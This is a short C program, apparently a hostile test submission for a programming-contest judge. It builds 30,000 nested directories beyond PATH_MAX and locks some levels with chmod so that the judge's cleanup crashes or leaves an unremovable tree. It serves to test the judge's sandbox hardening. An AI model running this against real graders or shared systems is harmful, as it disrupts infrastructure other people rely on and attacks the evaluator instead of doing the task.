// attack: make 30,000 nested directories in the working directory (mkdir
// + chdir: its paths pass PATH_MAX), every 1000th closed (mode 0500 once
// its child exists, 0 for the deepest), so that the judge's removal of it
// overflows a worker's stack or gives up, with no report and a tree that
// every later judge tries to remove again. Never right: only the judge's
// crash or a leftover would count.
// setup: plain
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    for (int i = 0; i < 30000; i++) {
        if (mkdir("d", 0700) != 0 || chdir("d") != 0) break;
        if (i % 1000 == 999) chmod("..", 0500);
    }
    chmod(".", 0);
    puts("0\n0");
    return 0;
}
